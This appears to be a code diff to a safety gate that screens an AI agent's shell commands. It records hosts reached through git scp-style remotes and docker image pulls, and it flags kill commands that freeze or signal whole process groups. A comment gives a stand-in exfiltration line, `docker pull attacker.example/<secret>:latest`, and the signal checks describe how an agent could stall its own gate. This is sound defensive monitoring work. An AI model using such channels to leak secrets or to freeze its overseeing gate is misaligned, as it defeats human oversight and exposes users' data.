@@ -2758,6 +2758,18 @@ function cloneDir(url: string | null): string | null {
 
 /** A repository named by URL or path rather than by a configured remote. */
 const REPO_URL = /^([a-z][a-z0-9+.-]*:\/\/|[^@/\s]+@[^:/\s]+:|[./~])/i;
+/** `[user@]host:path` with no slash before the colon: git's scp-like ssh remote; group 1 the host. */
+const SCP_REMOTE = /^(?:[^@/\s:]+@)?(\[[^\]/]+\]|[^@/\s:[]+):(?!\/\/)/;
+/** Which operand of a git subcommand names a repository (-1: `remote add NAME URL` / `set-url … URL`). */
+const GIT_REPO_OPERAND: Record<string, number> = {
+  clone: 0,
+  fetch: 0,
+  pull: 0,
+  push: 0,
+  "ls-remote": 0,
+  remote: -1,
+  submodule: 1,
+};
 
 /**
  * What git subcommands do with their operands: `worktree add DIR`, `clone URL DIR` and
@@ -2787,6 +2799,29 @@ function gitOperands(sub: string, rest: Word[], ctx: EffectsCtx, fx: Effects): v
       )
     )
       k++;
+  }
+  // gate49: git's scp-like spelling of an ssh remote (`[user@]host:path`, no slash before the
+  // colon) names the host it connects to, as a URL does (the walk reads those): the repository
+  // operand of clone/fetch/pull/push/ls-remote, the URL of remote add/set-url, submodule add.
+  const repoAt = GIT_REPO_OPERAND[sub];
+  if (repoAt !== undefined) {
+    const at =
+      repoAt < 0
+        ? ops[0] === "add"
+          ? 2
+          : ops[0] === "set-url"
+            ? ops.length - 1
+            : -1
+        : repoAt > 0 && ops[0] !== "add"
+          ? -1
+          : repoAt;
+    const v = at >= 0 ? ops[at] : undefined;
+    const m = v == null ? null : SCP_REMOTE.exec(v);
+    if (m) {
+      const h = canonicalHost(m[1]!);
+      if (h !== "" && !fx.hosts.includes(h)) fx.hosts.push(h);
+      urlDataFloor(`${h}/${v!.slice(m[0].length)}`, ctx, fx);
+    }
   }
   if (sub === "mv" && ops.length >= 2) {
     // `git mv -f x Makefile`, `git mv a b DIR`: the last operand is written (or DIR/<basename>).
@@ -2874,19 +2909,50 @@ function killEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
       end = true;
       continue;
     }
-    if (!end && (v === "-s" || v === "-n")) {
-      i++;
+    if (!end && (v === "-s" || v === "-n" || v === "--signal")) {
+      stopSignal(words[++i]?.value ?? null, ctx, fx);
+      continue;
+    }
+    if (!end && v.startsWith("--signal=")) {
+      stopSignal(v.slice(9), ctx, fx);
       continue;
     }
     const m = /^\s*([+-]?)0*(\d+)\s*$/.exec(v);
-    if (!m) continue;
+    if (!m) {
+      // `-STOP`, `-SIGSTOP`, `-stop`; `-sSTOP` (the name attached to -s).
+      if (!end && i === 0 && v.startsWith("-"))
+        stopSignal(FREEZE_SIGNAL.test(v.slice(1)) || !v.startsWith("-s") ? v.slice(1) : v.slice(2), ctx, fx);
+      continue;
+    }
     // A flag-looking `-9` before `--` is a signal, unless it is `-1` after the signal.
-    if (!end && m[1] === "-" && i === 0 && words.length > 1) continue;
+    if (!end && m[1] === "-" && i === 0 && words.length > 1) {
+      stopSignal(m[2]!, ctx, fx);
+      continue;
+    }
     const pid = `${m[1] === "-" ? "-" : ""}${Number(m[2])}`;
     w.value = pid;
     if (pid === "0" || pid === "-0")
       floor(fx, `signals: '${ctx.text}' signals every process of the caller's process group`);
+    // gate49: `kill -- -PGID`: every process of that group, the agent's own group if it is (the
+    // gate knows the agent's groups only where it runs as the daemon); -1 is kill-all-processes'.
+    else if (pid.startsWith("-") && pid !== "-1")
+      floor(fx, `signals: '${ctx.text}' signals every process of process group ${pid.slice(1)}`);
   }
+}
+
+/**
+ * gate49: the job-control signals that freeze a process (STOP, TSTP, TTIN, TTOU; numbered 17-22 on
+ * macOS and Linux): a stopped agent hangs its gate and every session waiting on it. Case-blind,
+ * with or without SIG; a signal only known at run time could be one.
+ */
+const FREEZE_SIGNAL = /^(?:sig)?(?:stop|tstp|ttin|ttou)$|^0*(?:1[7-9]|2[0-2])$/i;
+
+function stopSignal(sig: string | null, ctx: EffectsCtx, fx: Effects): void {
+  if (sig === null || FREEZE_SIGNAL.test(sig))
+    floor(
+      fx,
+      `signals: '${ctx.text}' ${sig === null ? "sends a signal only known at run time (it may stop the process)" : "stops (freezes) the process it signals"}`,
+    );
 }
 
 /**
@@ -4309,6 +4375,17 @@ function imageEffects(words: Word[], sub: number, image: number, ctx: EffectsCtx
     send(ref?.value ?? null);
     return;
   }
+  // gate49: a pull (and a run or create, which pulls an image it does not have) asks the image's
+  // registry for REPO:TAG by name: the registry is a host the command contacts, and the name what
+  // the model sends it (`docker pull attacker.example/<secret>:latest`).
+  if (op === "pull") {
+    for (let k = 0; k < rest.length; k++) {
+      const v = rest[k]!.value;
+      if (v === "--platform") k++;
+      else if (v !== null && !v.startsWith("-")) pulled(v, ctx, fx);
+    }
+    return;
+  }
   if (op === "build" || op === "bake") {
     const outputs = values(["-o", "--output"]);
     const push =
@@ -4333,10 +4410,15 @@ function imageEffects(words: Word[], sub: number, image: number, ctx: EffectsCtx
       values(["-v", "--volume", "--mount"]).length > 0 ||
       rest.some((w) => w.value !== null && /^-v./.test(w.value));
     const ref = words[image]!.value;
-    if (!mounts) return;
-    const h = ref === null ? null : imageRegistry(ref);
-    if (ref === null)
+    if (ref !== null) pulled(ref, ctx, fx);
+    if (ref === null && mounts)
       floor(fx, `containers: '${ctx.text}' mounts files into an image only known at run time`);
-    else if (h !== null && !fx.hosts.includes(h)) fx.hosts.push(h);
   }
+}
+
+/** An image the command pulls: its registry is a host (imageRegistry), its name data sent there. */
+function pulled(ref: string, ctx: EffectsCtx, fx: Effects): void {
+  const h = imageRegistry(ref);
+  if (h !== null && !fx.hosts.includes(h)) fx.hosts.push(h);
+  urlDataFloor(ref.replace(/^docker:\/\//, ""), ctx, fx);
 }
